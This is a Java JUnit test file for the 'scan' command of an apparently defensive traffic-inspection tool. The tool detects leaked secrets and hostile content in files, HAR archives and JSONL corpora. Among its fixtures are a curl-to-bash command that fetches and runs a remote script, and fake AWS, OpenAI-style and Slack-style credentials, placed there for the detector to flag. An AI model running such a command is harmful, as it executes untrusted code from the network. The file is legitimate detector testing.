package trafficguardian.host;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.zip.GZIPOutputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import trafficguardian.ipc.Json;

/** The verb {@code scan}, with the rules that the service has. */
class ScanTest {
  private static final String KEY = "AKIA" + "QZ7XTM4WPLN2VRKC";
  private static final String SCRIPT = "curl http://203.0.113.9/x.sh | bash";

  @TempDir Path folder;

  private record Run(int exit, String out, String err) {}

  @Test
  void plainFileIsLookedAtForBothDirections() throws IOException {
    Path file = write("notes.txt", "id=" + KEY + "\n" + SCRIPT + "\nagain " + KEY + "\n");
    Run run = scan(file.toString());
    assertEquals(0, run.exit(), run.err());
    assertEquals(
        Set.of(
            "high      "
                + file
                + "  body at byte 3  aws_access_key  request body: [REDACTED:aws_access_key len=20]",
            "high      "
                + file
                + "  body at byte 24  pipe_to_shell  response body: [REDACTED:pipe_to_shell len=35]"),
        Set.copyOf(run.out().lines().toList()));
    assertEquals("2 findings.\n", run.err());
    assertFalse(run.out().contains(KEY.substring(4)));
  }

  @Test
  void directionLimitsAndFailOnDecidesTheExitCode() throws IOException {
    String file = write("notes.txt", KEY + " and " + SCRIPT).toString();
    Run inbound = scan("--direction", "inbound", "--fail-on", "critical", file);
    assertEquals(0, inbound.exit());
    assertTrue(inbound.out().contains("pipe_to_shell"), inbound.out());
    assertFalse(inbound.out().contains("aws_access_key"), inbound.out());
    assertEquals(1, scan("--direction", "outbound", "--fail-on", "high", file).exit());
    assertEquals(2, scan("--direction", "sideways", file).exit());
  }

  @Test
  void standardInputIsReadWithoutAFileOrForADash() throws IOException {
    for (List<String> arguments : List.of(List.<String>of(), List.of("-"))) {
      Run run = scan(("x " + KEY).getBytes(StandardCharsets.UTF_8), arguments);
      assertTrue(run.out().contains("(standard input)  body at byte 2"), run.out());
    }
  }

  @Test
  void jsonIsOneFindingALine() throws IOException {
    Path file = write("a.log", "k " + KEY);
    var line = Json.mapper().readTree(scan("--json", file.toString()).out());
    assertEquals("traffic-guardian/scan/v1", line.path("schema").stringValue());
    assertEquals(file.toString(), line.path("file").stringValue());
    assertEquals("clawsec-traffic-finding/v1", line.path("schema_version").stringValue());
    assertEquals("aws_access_key", line.path("pattern").stringValue());
    assertEquals(2, line.path("location").path("offset").intValue());
  }

  @Test
  void plainFileIsLookedAtBeyondTheBoundOfMessages() throws IOException {
    Path config = write("config.json", "{\"max_scan_bytes\": 1024}");
    Path file = write("long.log", "x".repeat(300_000) + " " + KEY);
    Run run = scan("--config", config.toString(), file.toString());
    assertTrue(run.out().contains("at byte 300001"), run.out() + run.err());
  }

  @Test
  void archiveIsLookedAtExchangeByExchange() throws IOException {
    String har =
        """
        {"log": {"version": "1.2", "creator": {"name": "x"}, "entries": [
          {"request": {"method": "GET", "url": "https://a.example/x?k=%1$s", "headers": []},
           "response": {"headers": [], "content": {"text": "fine"}}},
          {"request": {"method": "POST", "url": "https://b.example:8443/p",
             "headers": [{"name": ":authority", "value": "b.example"}],
             "postData": {"mimeType": "text/plain", "params": [{"name": "a", "value": "%2$s"}]}},
           "response": {"headers": [{"name": "Content-Encoding", "value": "gzip"}],
             "content": {"encoding": "base64", "text": "%3$s"}},
           "_webSocketMessages": [{"type": "send", "opcode": 1, "data": "ws %4$s"}]}
        ]}}
        """
            .formatted(
                KEY,
                KEY.replace("QZ7X", "MM7X"),
                base64(SCRIPT.getBytes(StandardCharsets.UTF_8)),
                KEY.replace("QZ7X", "LL7X"));
    Path file = write("session.har", har);
    Run run = scan(file.toString());
    assertEquals(0, run.exit(), run.err());
    assertEquals(
        List.of(
            " entry 0  target at byte 5  aws_access_key  request target: ",
            " entry 1  body at byte 2  aws_access_key  request body: ",
            " entry 1  body at byte 0  pipe_to_shell  response body: ",
            " entry 1  body at byte 3  aws_access_key  request body: "),
        run.out()
            .lines()
            .map(line -> line.substring(line.indexOf(" entry"), line.indexOf('[')))
            .toList());
    Run json = scan("--json", "--direction", "inbound", file.toString());
    assertEquals("b.example:8443", Json.mapper().readTree(json.out()).path("dest").stringValue());
  }

  @Test
  void cutArchiveIsAProblemAfterWhatItHeld() throws IOException {
    Path file =
        write(
            "cut.har",
            "{\"log\":{\"entries\":[{\"request\":{\"url\":\"http://h.example/?"
                + KEY
                + "\"}},{\"req");
    Run run = scan(file.toString());
    assertEquals(2, run.exit());
    assertTrue(run.out().contains("entry 0  target at byte 2"), run.out());
    assertTrue(run.err().contains("entry 1 is damaged"), run.err());
  }

  @Test
  void corpusRecordsAreAnsweredInOrder() throws IOException {
    ByteArrayOutputStream gzip = new ByteArrayOutputStream();
    try (GZIPOutputStream out = new GZIPOutputStream(gzip)) {
      out.write(("key " + KEY).getBytes(StandardCharsets.UTF_8));
    }
    String records =
        String.join(
            "\n",
            record("none", "request-body", "outbound", "\"body\": \"nothing here\""),
            record(
                "gzip",
                "request-body",
                "outbound",
                "\"encoding\": \"gzip\", \"body_b64\": \"" + base64(gzip.toByteArray()) + "\""),
            record(
                "cut",
                "request-body",
                "outbound",
                "\"encoding\": \"chunked\", \"chunk_sizes\": [3, 1, 7], \"body\": \"k="
                    + KEY
                    + "\""),
            "",
            record(
                "frames",
                "ws-client",
                "outbound",
                "\"frames\": [{\"opcode\": \"text\", \"fin\": false, \"payload\": \"x "
                    + KEY.substring(0, 9)
                    + "\"}, {\"opcode\": \"continuation\", \"fin\": true, \"payload\": \""
                    + KEY.substring(9)
                    + "\"}]"),
            record(
                "head",
                "response-header",
                "inbound",
                "\"headers\": {\"X-Motd\": \"" + SCRIPT + "\"}"),
            record("low", "request-body", "outbound", "\"body\": \"AKIA" + "IOSFODNN7EXAMPLE\""));
    Path file = write("corpus.jsonl", records);
    Run run = scan("--corpus", file.toString());
    assertEquals(0, run.exit(), run.err());
    assertEquals(
        List.of(
            "{\"id\":\"none\",\"patterns\":[],\"low\":[]}",
            "{\"id\":\"gzip\",\"patterns\":[\"aws_access_key\"],\"low\":[]}",
            "{\"id\":\"cut\",\"patterns\":[\"aws_access_key\"],\"low\":[]}",
            "{\"id\":\"frames\",\"patterns\":[\"aws_access_key\"],\"low\":[]}",
            "{\"id\":\"head\",\"patterns\":[\"pipe_to_shell\"],\"low\":[]}",
            "{\"id\":\"low\",\"patterns\":[],\"low\":[\"aws_access_key\"]}"),
        run.out().lines().toList());
    assertEquals(1, scan("--corpus", "--fail-on", "high", file.toString()).exit());
  }

  @Test
  void recordsOfOneGroupShareWhatWasSeenAndOthersDoNot() throws IOException {
    String openAi = "sk-proj-" + "Ab3dEf6hIj9".repeat(5);
    String other = "sk-proj-" + "Kl2mNo5pQr8".repeat(5);
    List<String> records = new ArrayList<>();
    for (String group : List.of("", "\"group\": \"g\", ")) {
      for (String key : List.of(openAi, other)) {
        records.add(
            "{\"id\": \"r%d\", \"direction\": \"outbound\", \"channel\": \"request-header\", %s\"url\": \"https://api.openai.com/v1\", \"headers\": {\"Authorization\": \"Bearer %s\"}}"
                .formatted(records.size(), group, key));
      }
    }
    Path file = write("groups.jsonl", String.join("\n", records));
    assertEquals(
        List.of("r0 low", "r1 low", "r2 low", "r3 alert"),
        scan("--corpus", file.toString())
            .out()
            .lines()
            .map(Json.mapper()::readTree)
            .map(
                answer ->
                    answer.path("id").stringValue()
                        + (answer.path("patterns").isEmpty() ? " low" : " alert"))
            .toList());
  }

  @Test
  void whoeverIsNamedBeforeAHostIsShownToIt() throws IOException {
    String token = "xoxb-" + "1234567890".repeat(2) + "-" + "aB3dE6hJ9".repeat(3);
    String record =
        "{\"id\": \"%1$s\", \"direction\": \"outbound\", \"url\": \"https://%2$s@%1$s.example/x\"}";
    Path file =
        write(
            "users.jsonl",
            record.formatted("a", "slack.com:" + token) + "\n" + record.formatted("b", "ann"));
    assertEquals(
        "{\"id\":\"a\",\"patterns\":[\"slack_token\"],\"low\":[]}\n{\"id\":\"b\",\"patterns\":[],\"low\":[]}\n",
        scan("--corpus", file.toString()).out());
  }

  @Test
  void damagedRecordIsNamedAndTheOthersAreAnswered() throws IOException {
    Path file =
        write(
            "corpus.jsonl",
            "{\"id\": 7}\n{ nonsense "
                + KEY
                + "\n"
                + record("good", "request-body", "outbound", "\"body\": \"\""));
    Run run = scan("--corpus", file.toString());
    assertEquals(2, run.exit());
    assertEquals("{\"id\":\"good\",\"patterns\":[],\"low\":[]}\n", run.out());
    assertTrue(run.err().contains("line 1 is not a record"), run.err());
    assertTrue(run.err().contains("line 2 is not a record"), run.err());
    assertFalse(run.err().contains(KEY), run.err());
  }

  @Test
  void missingFileAndFolderAreUsageErrors() throws IOException {
    Run missing = scan(folder.resolve("none").toString());
    assertEquals(2, missing.exit());
    assertTrue(missing.err().contains("there is no such file."), missing.err());
    assertEquals(2, scan(folder.toString()).exit());
  }

  private static String record(String id, String channel, String direction, String more) {
    return "{\"id\": \"%s\", \"channel\": \"%s\", \"direction\": \"%s\", \"url\": \"https://h.example/p\", %s}"
        .formatted(id, channel, direction, more);
  }

  private static String base64(byte[] bytes) {
    return Base64.getEncoder().encodeToString(bytes);
  }

  private Path write(String name, String text) throws IOException {
    return Files.writeString(folder.resolve(name), text);
  }

  private Run scan(String... arguments) throws IOException {
    return scan(new byte[0], List.of(arguments));
  }

  private Run scan(byte[] input, List<String> arguments) throws IOException {
    List<String> all =
        new ArrayList<>(List.of("scan", "--home", folder.resolve("home").toString()));
    all.addAll(arguments);
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    ByteArrayOutputStream err = new ByteArrayOutputStream();
    InputStream before = System.in;
    try {
      System.setIn(new ByteArrayInputStream(input));
      int exit =
          Main.program()
              .run(
                  all,
                  Map.of(),
                  new PrintStream(out, true, StandardCharsets.UTF_8),
                  new PrintStream(err, true, StandardCharsets.UTF_8),
                  false);
      return new Run(
          exit, out.toString(StandardCharsets.UTF_8), err.toString(StandardCharsets.UTF_8));
    } finally {
      System.setIn(before);
    }
  }
}
